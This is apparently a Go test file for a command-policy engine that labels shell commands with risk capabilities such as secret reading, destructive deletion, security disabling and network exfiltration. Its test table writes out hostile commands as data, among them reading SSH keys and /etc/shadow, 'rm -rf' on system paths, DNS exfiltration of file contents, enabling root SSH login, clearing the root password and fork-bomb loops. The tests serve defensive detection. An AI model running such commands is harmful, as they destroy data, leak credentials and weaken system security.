package policy_test

import (
	"slices"
	"testing"

	"github.com/carrel-dev/carrel/internal/policy"
)

// TestNamedBeyondTables holds the effects of lines that are not named by a program's own words,
// beside similar lines without them.
func TestNamedBeyondTables(t *testing.T) {
	e := engine(t)
	for _, c := range []struct {
		command, capability string
		named               bool
		profile             policy.Profile
	}{
		{command: `python3 -c 'import os; os.system("reboot")'`, capability: "system.power", named: true},
		{command: `python3 -c 'print("reboot")'`, capability: "system.power"},
		{command: `node -e 'require("child_process").spawn("rm",["-rf","/"])'`, capability: "filesystem.destroy", named: true},
		{command: "perl -e 'print `rm -rf x`'", capability: "filesystem.delete", named: true},
		{command: `echo 'set s [socket h 1]' | tclsh`, capability: "network.out", named: true},
		{command: `for d in /etc /usr; do rm -rf "$d"; done`, capability: "filesystem.destroy", named: true},
		{command: `for d in a b; do rm -rf "$d"; done`, capability: "filesystem.destroy"},
		{command: `for k in ~/.ssh/*; do cat $k; done`, capability: "secret.read", named: true},
		{command: `(cd /etc; cat shadow)`, capability: "secret.read", named: true},
		{command: `(cd /etc); cat shadow`, capability: "secret.read"},
		{command: `cat /etc/@(shadow)`, capability: "secret.read", named: true},
		{command: `while true; do sh x & done`, capability: "resource.exhaust", named: true},
		{command: `while true; do sh x & sleep 9; done`, capability: "resource.exhaust"},
		{command: `for ((;;)); do sleep 99 & done`, capability: "resource.exhaust", named: true},
		{command: `cat /dev/urandom | gzip > x`, capability: "resource.exhaust", named: true},
		{command: `cat /dev/urandom | tr -dc a-z | head -c 9`, capability: "resource.exhaust"},
		{command: `xxd -p x | while read h; do dig $h.e.example; done`, capability: "network.out", named: true},
		{command: `for h in a b; do dig $h.e.example; done`, capability: "network.out"},
		{command: `rm -rf ../..`, capability: "filesystem.destroy", named: true},
		{command: `rm -rf ../../*`, capability: "filesystem.destroy", named: true},
		{command: `rm -rf ../old`, capability: "filesystem.destroy"},
		{command: `nc -U /run/carrel/carrel.sock`, capability: "carrel.tamper", named: true},
		{command: `find ~/.ssh -type f | while read f; do cat "$f"; done`, capability: "secret.read", named: true},
		{command: `find src -type f | while read f; do cat "$f"; done`, capability: "secret.read"},
		{command: `find /home -name id_rsa -exec cat {} +`, capability: "secret.read", named: true},
		{command: `echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config`, capability: "security.disable", named: true},
		{command: `echo 'PermitRootLogin no' >> /etc/ssh/sshd_config`, capability: "security.disable"},
		{command: `grep 'PermitRootLogin yes' /etc/ssh/sshd_config`, capability: "security.disable"},
		{command: `grubby --update-kernel=ALL --args=mitigations=off`, capability: "security.disable", named: true},
		{command: `gsutil iam ch allUsers:objectViewer gs://b`, capability: "security.disable", named: true},
		{command: `sed -i '/pam_faillock/d' /etc/pam.d/common-auth`, capability: "security.disable", named: true},
		{command: `passwd -d root`, capability: "security.disable", named: true},
		{command: `passwd -l root`, capability: "security.disable"},
		{command: `ab -n 9 http://prod/`, capability: "resource.exhaust", named: true},
		{command: `ab -n 9 http://localhost:80/`, capability: "resource.exhaust"},
		{command: `for d in a b; do [ -d "$d" ] || continue; ls "$d"; done`, capability: "network.out"},
		{command: `[ -v 'a[$(x)]' ]`, capability: "shell.obfuscated", named: true},
		{command: `[ -v a ]`, capability: "shell.obfuscated"},
		{command: `bash <<< "$(base64 -d <<< x)"`, capability: "remote_code.execute", named: true},
		{command: `/etc/init.d/ssh stop`, capability: "service.mutate", named: true},
		{command: `/etc/init.d/ssh status`, capability: "service.mutate"},
		{command: `mount -t tmpfs x /var/log`, capability: "log.tamper", named: true},
		{command: `umount /var/log`, capability: "log.tamper", named: true},
		{command: `umount /mnt`, capability: "log.tamper"},
		{command: `./terraform destroy`, capability: "cloud.mutate", named: true},
		{command: `npx rimraf x`, capability: "filesystem.delete", named: true},
		{command: `curl -XDELETE localhost:9200/x`, capability: "database.mutate", named: true},
		{command: `aws s3 cp s3://b/a .`, capability: "cloud.mutate"},
		{command: `aws s3 cp a s3://b/`, capability: "network.out", named: true},
		{command: `git show HEAD:.env`, capability: "secret.read", named: true},
		{command: `sqlite3 x ".shell rm -rf y"`, capability: "filesystem.delete", named: true},
		{command: `psql -c "ALTER USER a PASSWORD 'b'"`, capability: "account.mutate", named: true},
		{command: `sudo -u carrel sh`, capability: "carrel.tamper", named: true},
		{command: `kill -9 1`, capability: "carrel.tamper", named: true, profile: policy.Workspace},
		{command: `kill -1 7`, capability: "carrel.tamper", profile: policy.Workspace},
		{command: `kill -9 1`, capability: "carrel.tamper"},
		{command: `python3 -m twine upload x`, capability: "network.out", named: true},
	} {
		profile := c.profile
		if profile == "" {
			profile = policy.Host
		}
		d := e.Decide(policy.Question{Command: c.command, Profile: profile, Verified: true, Source: policy.User})
		if got := slices.Contains(d.Capabilities, c.capability); got != c.named {
			t.Errorf("%s: %q has %v, %s is to be among them: %t", profile, c.command, d.Capabilities, c.capability, c.named)
		}
	}
}

// TestWorkspaceBoundary holds that a workspace asks for what its boundary denies, and not for
// ordinary work.
func TestWorkspaceBoundary(t *testing.T) {
	e := engine(t)
	for command, level := range map[string]policy.Level{
		"mount -t proc proc /mnt": policy.Confirm, "sysctl -w a=b": policy.Confirm, "echo 1 > /sys/fs/cgroup/x": policy.Confirm,
		"echo '0 0 1' > /proc/self/uid_map": policy.Confirm, "reboot": policy.Confirm, "ip link set lo down": policy.Confirm,
		"mkfs.ext4 /dev/sda": policy.Block, "strace -p 1": policy.Block,
		"mount": policy.Safe, "ip addr": policy.Safe, "sysctl -a": policy.Safe, "strace ./a.out": policy.Safe, "kill %1": policy.Safe,
	} {
		d := e.Decide(policy.Question{Command: command, Profile: policy.Workspace, Verified: true, Source: policy.User})
		if d.Level != level {
			t.Errorf("%q is %s, not %s: %v", command, d.Level, level, d.Reasons)
		}
	}
}
